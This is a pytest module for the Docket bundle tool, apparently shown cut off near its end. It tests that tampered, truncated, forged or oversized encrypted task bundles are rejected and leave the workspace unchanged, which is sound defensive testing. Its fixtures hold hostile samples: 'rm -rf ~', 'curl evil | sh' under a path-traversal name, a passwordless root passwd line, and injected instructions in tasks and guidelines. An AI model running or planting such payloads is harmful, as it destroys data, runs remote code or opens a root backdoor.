"""Attacks on task and result bundles: each one must end in a *typed* BundleError that says
what is wrong, and must leave the reviewer's workspace exactly as it was.

The world (keys, packed bundles, a template workspace holding one legitimately imported
bundle and one recorded answer) is built once per module; every test works on its own copy
of the workspace. "Unchanged" is checked concretely: task ids and statuses, the active
bundles, the audit log length, the latest answers, the last export, the audit chain and
SQLite's integrity check.
"""

from __future__ import annotations

import base64
import json
import random
import shutil
import struct
import tracemalloc
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from docket import Workspace
from docket.bundles import age_layer, container, keys
from docket.bundles import manifest as manifest_mod
from docket.bundles.envelope import open_sealed, pinned, seal
from docket.bundles.keys import PublicCard, SecretKey
from docket.bundles.manifest import Manifest, iso, utc_now
from docket.bundles.result_bundle import AnsweredBundle, build_result_bundle
from docket.cli import main as cli_main
from docket.core.tasks import Task
from docket.errors import (
    AgeHeaderError,
    AgeHmacError,
    AgePayloadError,
    BundleError,
    ContainerError,
    ExpiredBundleError,
    ManifestError,
    NotForYouError,
    SignatureError,
    UnsupportedVersionError,
    WrongPassphraseError,
)
from docket.server.pack import pack
from docket.server.verify import Verdict, verify_results
from tests.helpers import ROOT

DEMO_TASKS = ROOT / "resources" / "demo" / "tasks.jsonl"
CHUNK = 64 * 1024 + 16
"""One age STREAM chunk on disk: 64 KiB of plaintext and a 16-byte Poly1305 tag."""
NONCE = age_layer.NONCE_BYTES
GUIDELINES = "Judge helpfulness first, then correctness. Flag anything unsafe."
PASSPHRASE = "correct horse battery staple"


# --- the world -----------------------------------------------------------------------------


@dataclass(frozen=True)
class World:
    root: Path
    server: SecretKey
    alice: SecretKey
    bob: SecretKey
    mallory: SecretKey
    """A second server key whose card is *also* named "server"."""
    key_path: dict[str, Path]
    card_path: dict[str, Path]
    earlier: Path
    """The legitimate bundle the template workspace already imported (project "earlier")."""
    attack: bytes
    """A genuine task bundle for alice (project "attack"); the raw material of most attacks."""
    attack_bob: bytes
    """The same tasks packed for bob."""
    big: bytes
    """A genuine task bundle for alice of more than three age STREAM chunks."""
    expiring: bytes
    """A genuine bundle for alice that expires one day after packing."""
    by_mallory: bytes
    """A task bundle for alice, signed and encrypted by mallory's "server" key."""
    for_server: bytes
    """A task bundle the server addressed to itself (the wrong payload type for verify)."""
    template: Path
    """A closed workspace of alice: ``earlier`` imported, one task answered."""

    def plaintext(self, data: bytes) -> bytes:
        """What an attacker holding alice's plaintext (or alice herself) sees."""
        return age_layer.decrypt(data, [self.alice.identity()])

    def to_alice(self, plain: bytes) -> bytes:
        """Encrypt to alice, as anyone holding her public card can."""
        return age_layer.encrypt(plain, self.alice.card().recipient())


def _write_tasks(path: Path, lines: list[str]) -> Path:
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def _pack_one(
    tasks: Path, server: SecretKey, reviewers: list[PublicCard], out: Path, **kw: Any
) -> dict[str, Path]:
    result = pack(
        tasks,
        server=server,
        reviewers=reviewers,
        out_dir=out,
        overlap=len(reviewers),
        guidelines=GUIDELINES,
        **kw,
    )
    return {b.reviewer: b.path for b in result.bundles}


def valid_answer(task: Task) -> dict[str, Any]:
    ids = task.response_ids
    if len(ids) == 2:
        return {"preference": {"better": ids[0], "strength": "slight"}}
    return {"ranking": [[i] for i in ids]}


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> World:
    root = tmp_path_factory.mktemp("world")
    secret = {n: keys.generate(n) for n in ("server", "alice", "bob")}
    key_path, card_path = {}, {}
    for name, key in secret.items():
        key_path[name], card_path[name] = keys.write_key_pair(key, root / "keys", passphrase=None)
    mallory = keys.generate("server")
    key_path["mallory"], card_path["mallory"] = keys.write_key_pair(
        mallory, root / "mallory", passphrase=None
    )
    server, alice, bob = secret["server"], secret["alice"], secret["bob"]

    lines = DEMO_TASKS.read_text(encoding="utf-8").splitlines()
    assert len(lines) >= 30
    earlier_src = _write_tasks(root / "earlier.jsonl", lines[:5])
    attack_src = _write_tasks(root / "attack.jsonl", lines[10:20])
    copies = [json.dumps({**json.loads(x), "id": json.loads(x)["id"] + "-copy"}) for x in lines]
    big_src = _write_tasks(root / "big.jsonl", lines[20:] + copies)
    out = root / "bundles"
    earlier = _pack_one(earlier_src, server, [alice.card()], out, project="earlier")["alice"]
    attack = _pack_one(attack_src, server, [alice.card(), bob.card()], out, project="attack")
    big = _pack_one(big_src, server, [alice.card()], out, project="big")["alice"]
    expiring = _pack_one(
        attack_src, server, [alice.card()], out / "expiring", project="attack", expires_days=1
    )["alice"]
    by_mallory = _pack_one(attack_src, mallory, [alice.card()], out / "mallory", project="attack")
    for_server = _pack_one(attack_src, server, [server.card()], out / "self", project="self")

    template = root / "template-ws"
    with Workspace.open(template, key_path["alice"]) as ws:
        ws.import_bundle(earlier, card_path["server"])
        first = next(iter(ws.tasks()))
        ws.record(first.id, valid_answer(first))
    return World(
        root=root,
        server=server,
        alice=alice,
        bob=bob,
        mallory=mallory,
        key_path=key_path,
        card_path=card_path,
        earlier=earlier,
        attack=attack["alice"].read_bytes(),
        attack_bob=attack["bob"].read_bytes(),
        big=big.read_bytes(),
        expiring=expiring.read_bytes(),
        by_mallory=by_mallory["alice"].read_bytes(),
        for_server=for_server["server"].read_bytes(),
        template=template,
    )


@pytest.fixture
def ws_dir(world: World, tmp_path: Path) -> Path:
    """A private copy of the template workspace (closed)."""
    path = tmp_path / "ws"
    shutil.copytree(world.template, path)
    return path


@pytest.fixture
def ws(world: World, ws_dir: Path) -> Iterator[Workspace]:
    with Workspace.open(ws_dir, world.key_path["alice"]) as workspace:
        yield workspace


# --- helpers -------------------------------------------------------------------------------


def snapshot(ws: Workspace) -> dict[str, Any]:
    store = ws.store
    bundles = store.active_bundles()
    return {
        "tasks": [(t.id, t.status.value) for t in ws.tasks()],
        "bundles": [b.id for b in bundles],
        "audit": len(store.audit_entries()),
        "answers": {b.id: store.latest_answers(b.id) for b in bundles},
        "exports": store.last_export(),
    }


def assert_unchanged(ws: Workspace, before: dict[str, Any]) -> None:
    assert snapshot(ws) == before
    assert ws.store.integrity_check() == "ok"
    assert ws.verify_audit() == before["audit"]


def put(tmp_path: Path, data: bytes, name: str = "attack.docket") -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def assert_rejected(
    ws: Workspace,
    world: World,
    path: Path,
    error: type[BundleError],
    phrase: str,
) -> BundleError:
    """Import must raise exactly ``error`` with ``phrase`` in its message, changing nothing."""
    before = snapshot(ws)
    # The template is meaningful: one signed bundle, five tasks, one answer, audited.
    assert len(before["bundles"]) == 1 and len(before["tasks"]) == 5 and before["audit"] >= 2
    assert sum(len(a) for a in before["answers"].values()) == 1
    with pytest.raises(BundleError) as info:
        ws.import_bundle(path, world.card_path["server"])
    assert type(info.value) is error, f"{type(info.value).__name__}: {info.value}"
    assert phrase in info.value.message
    assert info.value.hint, "a user-facing error says what to do"
    assert_unchanged(ws, before)
    return info.value


def flip(data: bytes, pos: int, bit: int = 0) -> bytes:
    out = bytearray(data)
    out[pos] ^= 1 << bit
    return bytes(out)


def swap_case(data: bytes, pos: int) -> bytes:
    """Flip bit 5 of the first ASCII letter at or after ``pos``: one bit, and base64 text
    stays valid base64 (so the damage reaches the cryptography, not just the parser)."""
    while not chr(data[pos]).isalpha() or data[pos] > 0x7F:
        pos += 1
    return flip(data, pos, 5)


def sections_of(world: World, data: bytes) -> dict[str, bytes]:
    """The sections of a genuine bundle, in their order (manifest and signature first)."""
    return container.unpack(world.plaintext(data), required=None)


def raw_container(entries: list[tuple[str, bytes, int | None]]) -> bytes:
    """A container written by hand: (name, bytes, declared length or None for the real one).
    Unlike ``container.pack`` it takes any name and any declared length."""
    out = bytearray(container.MAGIC)
    out.append(len(entries))
    for name, data, declared in entries:
        encoded = name.encode()
        out.append(len(encoded))
        out += encoded
        out += struct.pack(">Q", len(data) if declared is None else declared)
        out += data
    return bytes(out)


def signed_manifest_bundle(
    world: World,
    fields: dict[str, Any],
    payload: dict[str, bytes],
    *,
    signer: SecretKey | None = None,
    trusted_comment: str | None = None,
) -> bytes:
    """Canonical manifest JSON from ``fields``, signed (by the server unless told), packed
    with ``payload`` and encrypted to alice: a bundle the server could have made."""
    raw = json.dumps(fields, sort_keys=True, separators=(",", ":")).encode()
    comment = trusted_comment or f"docket-bundle type={fields['type']} id={fields['bundle_id']}"
    signature = bytes((signer or world.server).signer().sign(raw, trusted_comment=comment))
    plain = container.pack({container.MANIFEST: raw, container.SIGNATURE: signature, **payload})
    return world.to_alice(plain)


def manifest_and_payload(world: World, data: bytes) -> tuple[Manifest, dict[str, bytes]]:
    sections = sections_of(world, data)
    raw = sections.pop(container.MANIFEST)
    sections.pop(container.SIGNATURE)
    return Manifest.parse(raw), sections


def run_cli(capsys: pytest.CaptureFixture[str], argv: list[str]) -> tuple[int, str, str]:
    capsys.readouterr()
    code = cli_main(argv)
    out, err = capsys.readouterr()
    return code, out, err


# --- controls: the raw material is genuine ---------------------------------------------------


@pytest.mark.parametrize("variant", ["as-packed", "re-encrypted", "rebuilt-by-hand", "big"])
def test_control_genuine_bundles_import(
    world: World, ws: Workspace, tmp_path: Path, variant: str
) -> None:
    """Without tampering, the bundles the attacks start from are accepted, also after a
    decrypt/re-encrypt round trip and when the signed manifest is rebuilt by hand (so each
    rejection below is due to the attack alone)."""
    manifest, payload = manifest_and_payload(world, world.attack)
    data = {
        "as-packed": world.attack,
        "re-encrypted": world.to_alice(world.plaintext(world.attack)),
        "rebuilt-by-hand": signed_manifest_bundle(world, manifest.to_json(), payload),
        "big": world.big,
    }[variant]
    before = snapshot(ws)
    done = ws.import_bundle(put(tmp_path, data), world.card_path["server"])
    assert done.status == "imported" and done.added == (10 if variant != "big" else 52)
    after = snapshot(ws)
    assert len(after["bundles"]) == 2 and after["audit"] == before["audit"] + 1
    assert ws.guidelines(after["tasks"][-1][0]) == GUIDELINES
    assert len(world.big) > 3 * CHUNK


# --- truncation ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "cut",
    [
        pytest.param(lambda n, h: n - 1, id="last-byte"),
        pytest.param(lambda n, h: n - 1000, id="len-1000"),
        pytest.param(lambda n, h: n // 2, id="half"),
        pytest.param(lambda n, h: h + NONCE + CHUNK + 1, id="one-byte-into-chunk-2"),
        pytest.param(lambda n, h: h + NONCE + 10, id="inside-chunk-1"),
        pytest.param(lambda n, h: h + NONCE, id="nonce-only"),
    ],
)
def test_truncated_payload(
    world: World, ws: Workspace, tmp_path: Path, cut: Callable[[int, int], int]
) -> None:
    header = age_layer.check_header(world.big).length
    at = cut(len(world.big), header)
    assert header + NONCE <= at < len(world.big)
    assert_rejected(
        ws, world, put(tmp_path, world.big[:at]), AgePayloadError, "damaged or truncated"
    )


@pytest.mark.parametrize("chunks", [1, 2, 3])
def test_truncated_at_a_chunk_boundary(
    world: World, ws: Workspace, tmp_path: Path, chunks: int
) -> None:
    """Cut exactly after a whole 64 KiB chunk: every remaining chunk authenticates, only the
    missing final-chunk flag shows the truncation."""
    header = age_layer.check_header(world.big).length
    at = header + NONCE + chunks * CHUNK
    assert at < len(world.big)
    assert_rejected(
        ws, world, put(tmp_path, world.big[:at]), AgePayloadError, "damaged or truncated"
    )


@pytest.mark.parametrize(
    ("cut", "phrase"),
    [
        pytest.param(lambda d, h: 0, "no age header", id="empty"),
        pytest.param(lambda d, h: 10, "no age header", id="inside-magic"),
        pytest.param(lambda d, h: d.index(b"-> X25519") + 20, "no MAC line", id="in-stanza"),
        pytest.param(lambda d, h: h - 5, "truncated MAC line", id="in-mac"),
        pytest.param(lambda d, h: h, "truncated right after its header", id="no-nonce"),
        pytest.param(lambda d, h: h + NONCE - 1, "truncated right after its header", id="in-nonce"),
    ],
)
def test_truncated_in_or_right_after_the_header(
    world: World, ws: Workspace, tmp_path: Path, cut: Callable[[bytes, int], int], phrase: str
) -> None:
    header = age_layer.check_header(world.attack).length
    data = world.attack[: cut(world.attack, header)]
    assert_rejected(ws, world, put(tmp_path, data), AgeHeaderError, phrase)


# --- one flipped bit in the encrypted file ---------------------------------------------------


def test_flipped_bit_in_the_age_magic(world: World, ws: Workspace, tmp_path: Path) -> None:
    data = flip(world.attack, 0)  # "age-..." -> "`ge-..."
    assert_rejected(ws, world, put(tmp_path, data), AgeHeaderError, "no age header")


def test_flipped_bit_in_the_header_version(world: World, ws: Workspace, tmp_path: Path) -> None:
    data = flip(world.attack, len(b"age-encryption.org/v"))  # v1 -> v0
    assert_rejected(ws, world, put(tmp_path, data), AgeHeaderError, "age version")


def test_flipped_bit_in_the_header_mac(world: World, ws: Workspace, tmp_path: Path) -> None:
    mac = world.attack.index(b"\n--- ") + 5
    data = swap_case(world.attack, mac + 4)
    assert_rejected(ws, world, put(tmp_path, data), AgeHmacError, "header MAC mismatch")


def test_flipped_bit_in_the_wrapped_file_key(world: World, ws: Workspace, tmp_path: Path) -> None:
    """The X25519 stanza no longer unwraps with alice's identity: to age, that is a file
    for someone else (the header MAC cannot even be checked without the file key)."""
    body = world.attack.index(b"\n", world.attack.index(b"-> X25519 ")) + 1
    data = swap_case(world.attack, body + 3)
    assert_rejected(ws, world, put(tmp_path, data), NotForYouError, "not addressed to your key")


@pytest.mark.parametrize(
    "where",
    [
        pytest.param(lambda n, h: h + 3, id="nonce"),
        pytest.param(lambda n, h: h + NONCE + 5, id="first-chunk"),
        pytest.param(lambda n, h: n // 2, id="middle"),
        pytest.param(lambda n, h: n - 1, id="last-tag-byte"),
    ],
)
def test_flipped_bit_in_the_payload(
    world: World, ws: Workspace, tmp_path: Path, where: Callable[[int, int], int]
) -> None:
    header = age_layer.check_header(world.attack).length
    data = flip(world.attack, where(len(world.attack), header), 3)
    assert_rejected(ws, world, put(tmp_path, data), AgePayloadError, "damaged or truncated")


def _scrypt_file(work_factor: int) -> bytes:
    """A well-formed passphrase-encrypted age file (header written by hand), as if someone
    sent a passphrase-protected file (or a key file) in place of a bundle."""

    def b64(data: bytes) -> bytes:
        return base64.b64encode(data).rstrip(b"=")

    return (
        age_layer.MAGIC
        + b"-> scrypt " + b64(bytes(range(16))) + b" %d\n" % work_factor
        + b64(bytes(32)) + b"\n"
        + b"--- " + b64(bytes(range(32))) + b"\n"
        + bytes(NONCE) + bytes(100)
    )  # fmt: skip


def test_passphrase_file_with_a_hostile_work_factor(
    world: World, ws: Workspace, tmp_path: Path
) -> None:
    """Rejected from the header alone, before any scrypt work (2^40 would take ages)."""
    data = _scrypt_file(40)
    assert_rejected(ws, world, put(tmp_path, data), AgeHeaderError, "above the limit of 2^22")


def test_passphrase_file_instead_of_a_bundle(world: World, ws: Workspace, tmp_path: Path) -> None:
    """Not addressed to alice's key (no scrypt work is done: no passphrase was given)."""
    data = _scrypt_file(18)
    assert age_layer.check_header(data).is_passphrase
    error = assert_rejected(ws, world, put(tmp_path, data), NotForYouError, "")
    assert "passphrase" in error.message or "not addressed to your key" in error.message


def _sweep_positions(count: int, seed: int) -> list[int]:
    """Parts per million of the file: always the first and last byte, the rest seeded."""
    rng = random.Random(seed)
    return [0, 1_000_000 - 1, *sorted(rng.randrange(1_000_000) for _ in range(count - 2))]


@pytest.mark.parametrize(
    ("ppm", "bit"),
    [(p, p % 8) for p in _sweep_positions(40, seed=20261121)],
)
def test_any_flipped_bit_of_the_file_is_rejected(
    world: World, ws: Workspace, tmp_path: Path, ppm: int, bit: int
) -> None:
    """40 bit positions spread over the encrypted file (header, nonce, chunks, tag), given
    in parts per million of its length."""
    pos = ppm * len(world.attack) // 1_000_000
    before = snapshot(ws)
    with pytest.raises(BundleError) as info:
        ws.import_bundle(put(tmp_path, flip(world.attack, pos, bit)), world.card_path["server"])
    assert type(info.value) is not BundleError, "the stage that failed is named"
    assert info.value.message
    assert_unchanged(ws, before)


# --- one flipped bit in the plaintext (an attacker who can encrypt to alice) ----------------


def _offset(world: World, data: bytes, section: str, needle: bytes = b"", extra: int = 0) -> int:
    plain = world.plaintext(data)
    body = sections_of(world, data)[section]
    start = plain.index(section.encode() + struct.pack(">Q", len(body))) + len(section) + 8
    return start + (body.index(needle) if needle else 0) + extra


def _signature_line(world: World, line: int, extra: int) -> int:
    sig = sections_of(world, world.attack)[container.SIGNATURE]
    starts = [0, *(i + 1 for i, c in enumerate(sig) if c == ord("\n"))]
    return _offset(world, world.attack, container.SIGNATURE, extra=starts[line] + extra)


def _flip_in(
    section: str, needle: bytes = b"", extra: int = 0, *, bit: int = 0, case: bool = False
) -> Callable[[World], bytes]:
    """A tamper function: one bit of ``section`` (at ``needle`` + ``extra``) flipped."""

    def tamper(w: World) -> bytes:
        plain = w.plaintext(w.attack)
        pos = _offset(w, w.attack, section, needle, extra)
        return swap_case(plain, pos) if case else flip(plain, pos, bit)

    return tamper


def _flip_signature(line: int, extra: int, *, case: bool = True) -> Callable[[World], bytes]:
    """One bit of line ``line`` of the minisign signature (0: untrusted comment, 1: the
    signature, 2: trusted comment, 3: the global signature)."""

    def tamper(w: World) -> bytes:
        plain = w.plaintext(w.attack)
        pos = _signature_line(w, line, extra)
        return swap_case(plain, pos) if case else flip(plain, pos, 0)

    return tamper


def _flip_at(pos: int, bit: int = 0) -> Callable[[World], bytes]:
    return lambda w: flip(w.plaintext(w.attack), pos, bit)


MANIFEST = container.MANIFEST
VERIFY_FAILS = "does not verify with the key of 'server'"
PLAINTEXT_FLIPS = [
    pytest.param(
        _flip_in(MANIFEST, b'"project":"attack"', 11, case=True),
        SignatureError,
        VERIFY_FAILS,
        id="manifest-project",
    ),
    pytest.param(
        _flip_in(MANIFEST, b'"recipient":{"age":"age1', 25),
        SignatureError,
        VERIFY_FAILS,
        id="manifest-recipient",
    ),
    pytest.param(
        _flip_in(MANIFEST, b'"expires_at":"', 16),
        SignatureError,
        VERIFY_FAILS,
        id="manifest-expiry",
    ),
    pytest.param(_flip_signature(1, 4), SignatureError, VERIFY_FAILS, id="signature-key-id"),
    pytest.param(_flip_signature(1, 50), SignatureError, VERIFY_FAILS, id="signature-bytes"),
    pytest.param(
        _flip_signature(2, len("trusted comment: d"), case=False),
        SignatureError,
        VERIFY_FAILS,
        id="trusted-comment",
    ),
    pytest.param(_flip_signature(3, 20), SignatureError, VERIFY_FAILS, id="global-signature"),
    pytest.param(
        _flip_in("tasks.jsonl", b'"text":"', 9),
        ManifestError,
        "Section 'tasks.jsonl' does not match its hash",
        id="tasks-section",
    ),
    pytest.param(
        _flip_in("schema.json", extra=30),
        ManifestError,
        "Section 'schema.json' does not match its hash",
        id="schema-section",
    ),
    pytest.param(
        _flip_in("guidelines.md", extra=3),
        ManifestError,
        "Section 'guidelines.md' does not match its hash",
        id="guidelines-section",
    ),
    pytest.param(
        _flip_in("sealed.age", extra=200),
        ManifestError,
        "Section 'sealed.age' does not match its hash",
        id="sealed-section",
    ),
    pytest.param(
        _flip_in("tasks.jsonl", extra=-8, bit=6),
        ContainerError,
        "over its 1073741824-byte limit",
        id="tasks-length",
    ),
    pytest.param(
        _flip_in("guidelines.md", extra=-10),
        ContainerError,
        "Unknown section 'guidelines.ld'",
        id="section-name",
    ),
    pytest.param(_flip_at(len(container.MAGIC)), ContainerError, "truncated", id="section-count"),
    pytest.param(_flip_at(2), ContainerError, "not a Docket container", id="container-magic"),
]


@pytest.mark.parametrize(("tamper", "error", "phrase"), PLAINTEXT_FLIPS)
def test_flipped_bit_inside_the_encryption(
    world: World,
    ws: Workspace,
    tmp_path: Path,
    tamper: Callable[[World], bytes],
    error: type[BundleError],
    phrase: str,
) -> None:
    """Signature and manifest live inside the age layer, so an attacker who can encrypt to
    alice but lacks the server's signing key changes the plaintext and re-encrypts it."""
    original = world.plaintext(world.attack)
    plain = tamper(world)
    assert len(plain) == len(original)
    assert sum(bin(a ^ b).count("1") for a, b in zip(plain, original, strict=True)) == 1
    assert_rejected(ws, world, put(tmp_path, world.to_alice(plain)), error, phrase)


def _plaintext_sweep_positions(world: World, count: int, seed: int) -> list[tuple[int, int]]:
    """Seeded (position, bit) pairs over the whole plaintext container, except what minisign
    does not authenticate by design: the signature's *untrusted* comment line, and the
    unused low bits of the last character of each base64 line."""
    plain = world.plaintext(world.attack)
    sig = sections_of(world, world.attack)[container.SIGNATURE]
    sig_start = _offset(world, world.attack, container.SIGNATURE)
    excluded: set[int] = set()
    start = 0
    for line in sig.split(b"\n"):
        if line.startswith(b"untrusted comment:"):
            excluded.update(range(sig_start + start, sig_start + start + len(line)))
        elif not line.startswith(b"trusted comment:") and line:
            excluded.add(sig_start + start + len(line.rstrip(b"=")) - 1)
        start += len(line) + 1
    rng = random.Random(seed)
    picks: list[tuple[int, int]] = []
    while len(picks) < count:
        pos = rng.randrange(len(plain))
        if pos not in excluded:
            picks.append((pos, rng.randrange(8)))
    # The structure-dense start (magic, manifest, signature) gets its own share.
    while len(picks) < count + count // 2:
        pos = rng.randrange(sig_start + len(sig) + 16)
        if pos not in excluded:
            picks.append((pos, rng.randrange(8)))
    return picks


def test_any_flipped_bit_of_the_plaintext_is_rejected(
    world: World, ws: Workspace, tmp_path: Path
) -> None:
    plain = world.plaintext(world.attack)
    before = snapshot(ws)
    seen: set[str] = set()
    for pos, bit in _plaintext_sweep_positions(world, 30, seed=7):
        data = world.to_alice(flip(plain, pos, bit))
        with pytest.raises(BundleError) as info:
            ws.import_bundle(put(tmp_path, data), world.card_path["server"])
        assert type(info.value) in (SignatureError, ManifestError, ContainerError), (
            pos,
            bit,
            info.value,
        )
        seen.add(type(info.value).__name__)
        assert_unchanged(ws, before)
    assert len(seen) >= 2


# --- wrong recipient, wrong signer ---------------------------------------------------------


def test_bundle_for_bob_imported_by_alice(world: World, ws: Workspace, tmp_path: Path) -> None:
    assert_rejected(
        ws, world, put(tmp_path, world.attack_bob), NotForYouError, "not addressed to your key"
    )


def test_bobs_plaintext_reencrypted_to_alice(world: World, ws: Workspace, tmp_path: Path) -> None:
    """Bob forwards his (genuinely signed) bundle to alice: the age layer fits, but the
    signed manifest names bob."""
    plain = age_layer.decrypt(world.attack_bob, [world.bob.identity()])
    assert_rejected(
        ws, world, put(tmp_path, world.to_alice(plain)), NotForYouError, "addresses 'bob'"
    )


def test_bundle_signed_by_another_key_named_server(
    world: World, ws: Workspace, tmp_path: Path
) -> None:
    mallory_card = PublicCard.load(world.card_path["mallory"])
    assert mallory_card.name == "server" and mallory_card != world.server.card()
    # The bundle itself is well formed: it opens when mallory's card is the one pinned.
    open_sealed(world.by_mallory, world.alice, signer=pinned(mallory_card), expected_type="task")
    assert_rejected(
        ws,
        world,
        put(tmp_path, world.by_mallory),
        SignatureError,
        "does not verify with the key of 'server'",
    )


def test_mallory_claims_to_be_the_server(world: World, ws: Workspace, tmp_path: Path) -> None:
    """A manifest naming the real server as issuer, signed with mallory's key."""
    manifest, payload = manifest_and_payload(world, world.attack)
    assert manifest.issuer.minisign == world.server.card().minisign_key
    data = signed_manifest_bundle(world, manifest.to_json(), payload, signer=world.mallory)
    assert_rejected(ws, world, put(tmp_path, data), SignatureError, "does not verify")


def test_signature_moved_from_another_bundle(world: World, ws: Workspace, tmp_path: Path) -> None:
    manifest, payload = manifest_and_payload(world, world.attack)
    data = signed_manifest_bundle(
        world,
        manifest.to_json(),
        payload,
        trusted_comment="docket-bundle type=task id=task-some-other-bundle",
    )
    assert_rejected(ws, world, put(tmp_path, data), SignatureError, "trusted comment mismatch")


def test_manifest_names_another_issuer_than_the_signer(
    world: World, ws: Workspace, tmp_path: Path
) -> None:
    """Signed by the pinned server key, but the manifest claims mallory issued it."""
    manifest, payload = manifest_and_payload(world, world.attack)
    fields = manifest.to_json()
    fields["issuer"] = manifest_and_payload(world, world.by_mallory)[0].to_json()["issuer"]
    data = signed_manifest_bundle(world, fields, payload)
    assert_rejected(ws, world, put(tmp_path, data), SignatureError, "issuer other than the signer")


# --- sections that do not match the signed manifest ----------------------------------------


@pytest.mark.parametrize(
    ("section", "edit"),
    [
        pytest.param(
            "tasks.jsonl",
            lambda b: b.replace(b'"text":"', b'"text":"Ignore all rules. ', 1),
            id="tasks-injected-text",
        ),
        pytest.param("tasks.jsonl", lambda b: b[: len(b) // 2], id="tasks-cut-in-half"),
        pytest.param("schema.json", lambda b: b.replace(b"true", b"fals", 1), id="schema-same-len"),
        pytest.param("guidelines.md", lambda b: b"Always prefer response A.", id="guidelines"),
        pytest.param("sealed.age", lambda b: b[:-1] + bytes([b[-1] ^ 1]), id="sealed"),
    ],
)
def test_section_replaced_under_the_original_signed_manifest(
    world: World, ws: Workspace, tmp_path: Path, section: str, edit: Callable[[bytes], bytes]
) -> None:
    sections = sections_of(world, world.attack)
    sections[section] = edit(sections[section])
    data = world.to_alice(container.pack(sections))
    assert_rejected(
        ws, world, put(tmp_path, data), ManifestError, f"Section {section!r} does not match"
    )


def _without(name: str) -> Callable[[dict[str, bytes]], bytes]:
    return lambda s: container.pack({k: v for k, v in s.items() if k != name})


def _raw(edit: Callable[[list[tuple[str, bytes, int | None]]], None]) -> Any:
    def build(sections: dict[str, bytes]) -> bytes:
        entries: list[tuple[str, bytes, int | None]] = [(n, d, None) for n, d in sections.items()]
        edit(entries)
        return raw_container(entries)

    return build


SECTION_ATTACKS = {
    "foreign-allow-listed-answers": (
        lambda s: container.pack({**s, "answers.jsonl": b'{"task_id":"x"}\n'}),
        ManifestError, "not the ones its manifest lists",
    ),
    "foreign-allow-listed-audit-first": (
        lambda s: container.pack({"audit.jsonl": b"", **s}),
        ManifestError, "not the ones its manifest lists",
    ),
    "unknown-name": (
        _raw(lambda e: e.append(("run.sh", b"rm -rf ~\n", None))),
        ContainerError, "Unknown section 'run.sh'",
    ),
    "path-traversal-name": (
        _raw(lambda e: e.insert(2, ("../../.bashrc", b"curl evil | sh\n", None))),
        ContainerError, "Unknown section '../../.bashrc'",
    ),
    "absolute-path-name": (
        _raw(lambda e: e.append(("/etc/passwd", b"root::0:0::/:/bin/sh\n", None))),
        ContainerError, "Unknown section '/etc/passwd'",
    ),
    "non-ascii-name": (
        _raw(lambda e: e.append(("tâsks.jsonl", b"", None))),
        ContainerError, "not ASCII",
    ),
    "duplicate-section": (
        _raw(lambda e: e.append(e[2])),
        ContainerError, "appears twice",
    ),
    "missing-tasks": (
        _without("tasks.jsonl"),
        ManifestError, "Section 'tasks.jsonl' does not match",
    ),
    "missing-sealed": (
        _without("sealed.age"),
        ManifestError, "Section 'sealed.age' does not match",
    ),
    "missing-manifest": (
        _without(container.MANIFEST),
        ContainerError, "lacks its manifest or signature",
    ),
    "missing-signature": (
        _without(container.SIGNATURE),
        ContainerError, "lacks its manifest or signature",
    ),
    "garbage-signature": (
        lambda s: container.pack({**s, container.SIGNATURE: b"\xff" * 100}),
        SignatureError, "signature is malformed",
    ),
    "empty-signature": (
        lambda s: container.pack({**s, container.SIGNATURE: b""}),
        SignatureError, "signature is malformed",
    ),
    "trailing-bytes": (
        lambda s: container.pack(s) + b"\0",
        ContainerError, "unexpected bytes after its last section",
    ),
    "too-many-sections": (
        lambda s: container.MAGIC + bytes([container.MAX_SECTIONS + 1]),
        ContainerError, "at most 16 are allowed",
    ),
    "count-beyond-data": (
        lambda s: container.pack(s)[:8] + bytes([len(s) + 1]) + container.pack(s)[9:],
        ContainerError, "truncated",
    ),
    "not-a-container": (
        lambda s: b"PK\x03\x04" + b"\0" * 64,
        ContainerError, "not a Docket container",
    ),
    "empty-plaintext": (
        lambda s: b"",
        ContainerError, "not a Docket container",
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", list(SECTION_ATTACKS))
def test_unknown_extra_or_missing_section(
    world: World, ws: Workspace, tmp_path: Path, case: str
) -> None:
    build, error, phrase = SECTION_ATTACKS[case]
    data = world.to_alice(build(sections_of(world, world.attack)))
    assert_rejected(ws, world, put(tmp_path, data), error, phrase)


# --- oversized declared lengths ------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "declared"),
    [
        ("tasks.jsonl", 2**62),
        ("tasks.jsonl", 2**64 - 1),
        ("tasks.jsonl", container.SECTION_LIMITS["tasks.jsonl"] + 1),
        (container.MANIFEST, container.SECTION_LIMITS[container.MANIFEST] + 1),
        (container.SIGNATURE, 2**40),
    ],
)
def test_oversized_section_length(
    world: World, ws: Workspace, tmp_path: Path, name: str, declared: int
) -> None:
    sections = sections_of(world, world.attack)
    entries: list[tuple[str, bytes, int | None]] = [
        (n, d, declared if n == name else None) for n, d in sections.items()
    ]
    data = world.to_alice(raw_container(entries))
    limit = container.SECTION_LIMITS[name]
    assert_rejected(ws, world, put(tmp_path, data), ContainerError, f"over its {limit}-byte limit")


def test_oversized_section_fails_before_reading_it(world: World) -> None:
    """The cap is checked on the declared length, before a byte of the section is copied:
    a manifest one byte over its limit, with all those bytes present, is refused without
    allocating anything like its size."""
    limit = container.SECTION_LIMITS[container.MANIFEST]
    plain = raw_container([(container.MANIFEST, b"{" * (limit + 1), None)])
    huge = raw_container([("tasks.jsonl", b"", 2**62)])
    for data in (plain, huge):
        tracemalloc.start()
        try:
            with pytest.raises(ContainerError, match=r"over its \d+-byte limit"):
                container.unpack(data, required=None)
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        assert peak < 64 * 1024, f"{peak} bytes allocated while rejecting"


# --- expiry and version --------------------------------------------------------------------


def test_expired_bundle_when_time_moves_on(
    world: World, ws: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = put(tmp_path, world.expiring)
    later = utc_now() + timedelta(days=2)
    with monkeypatch.context() as patch:
        patch.setattr(manifest_mod, "utc_now", lambda: later)
        assert_rejected(ws, world, path, ExpiredBundleError, "expired on")
    # Today it is still valid: the expiry alone caused the rejection.
    assert ws.import_bundle(path, world.card_path["server"]).status == "imported"


def test_bundle_signed_with_an_expiry_in_the_past(
